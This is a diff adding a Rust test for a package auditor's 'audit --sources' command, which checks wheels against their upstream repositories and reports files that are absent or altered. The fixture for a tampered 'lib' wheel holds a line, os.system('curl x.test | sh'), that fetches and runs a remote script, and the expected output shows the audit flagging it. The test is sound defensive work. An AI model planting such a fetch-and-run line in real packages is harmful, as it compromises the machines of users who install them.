@@ -12,7 +12,7 @@ use crate::hub::{Answer, Server};
 use crate::index::release;
 use crate::python::World;
 use crate::registry::{Registry, archive};
-use crate::support::git_or_skip;
+use crate::support::{Upstream, git_or_skip};
 
 /// Advisories by name and version of a package: id, summary, version in which it is fixed.
 type Known = BTreeMap<(&'static str, &'static str), (&'static str, &'static str, &'static str)>;
@@ -114,6 +114,88 @@ fn steady(said: &str, server: &Server) -> String {
     unscanned(said)
         .replace(server.url().trim_start_matches("http://"), "SERVICE")
         .replace(&today.format("%-d %B %Y").to_string(), "TODAY")
+}
+
+/// What an upload adds to a release is in no commit of its repository.
+#[test]
+fn what_a_wheel_has_and_its_repository_has_not_is_told() {
+    let nodes = [("a", "lib\nclean\nhomeless\nuntagged\n")];
+    let Some(w) = World::new("", &nodes) else {
+        return;
+    };
+    let source = b"def f():\n    return 1\n";
+    for name in ["lib", "clean", "untagged"] {
+        let up = Upstream::new(&w.root.join("upstream"), &format!("up/{name}"));
+        let path = format!("src/{name}/__init__.py");
+        up.commit(&[(&path, source, 0o100_644)]);
+        if name != "untagged" {
+            up.tag("v1.0");
+        }
+    }
+    let of = |name: &str, files: &[(&str, &[u8])]| {
+        let mut out = release(name, "1.0").repository(&format!("https://github.com/up/{name}"));
+        for (path, content) in files {
+            out = out.file(&format!("{name}/{path}"), content);
+        }
+        out.wheel()
+    };
+    // As a build on Windows writes it.
+    w.index.add(of(
+        "clean",
+        &[("__init__.py", b"def f():\r\n    return 1\r\n")],
+    ));
+    w.index.add(of(
+        "lib",
+        &[
+            (
+                "__init__.py",
+                b"def f():\n    return 1\nimport lib._setup\n",
+            ),
+            ("_setup.py", b"import os; os.system('curl x.test | sh')\n"),
+        ],
+    ));
+    w.index.add(of("untagged", &[("__init__.py", source)]));
+    w.index.wheels(&[("homeless", "1.0")]);
+    w.run(&["lock"]);
+    let run = |args: &str| {
+        w.with(args, |c| {
+            c.env("COMFY_ADVISORY_SERVICE", "off");
+        })
+    };
+    let said = [
+        run("audit --sources"),
+        run("audit --fail-on medium --sources lib clean"),
+        run("audit --sources lob"),
+    ];
+    insta::assert_snapshot!(said.join("\n"), @"
+    $ comfy audit --sources
+    Not as in their repositories
+      medium    lib 1.0
+          1 of 2 Python files of lib-1.0-py3-none-any.whl is not in https://github.com/up/lib at v1.0: lib/_setup.py; 1 differs: lib/__init__.py
+
+    1 finding: 1 medium.
+    Packages: not compared, since COMFY_ADVISORY_SERVICE is off.
+    Nodes and ComfyUI: comfy's own table of 2026-11-26.
+    Repositories: the Python of 2 packages was compared.
+    not compared with a repository: homeless: it names no repository on GitHub, GitLab or Codeberg
+    not compared with a repository: untagged: https://github.com/up/untagged has no tag for this version
+
+    $ comfy audit --fail-on medium --sources lib clean
+    Not as in their repositories
+      medium    lib 1.0
+          1 of 2 Python files of lib-1.0-py3-none-any.whl is not in https://github.com/up/lib at v1.0: lib/_setup.py; 1 differs: lib/__init__.py
+
+    1 finding: 1 medium.
+    Packages: not compared, since COMFY_ADVISORY_SERVICE is off.
+    Nodes and ComfyUI: comfy's own table of 2026-11-26.
+    Repositories: the Python of 2 packages was compared.
+    exit 2
+
+    $ comfy audit --sources lob
+    error: comfy.lock has no package `lob`
+      hint: did you mean `lib`?
+    exit 1
+    ");
 }
 
 #[test]
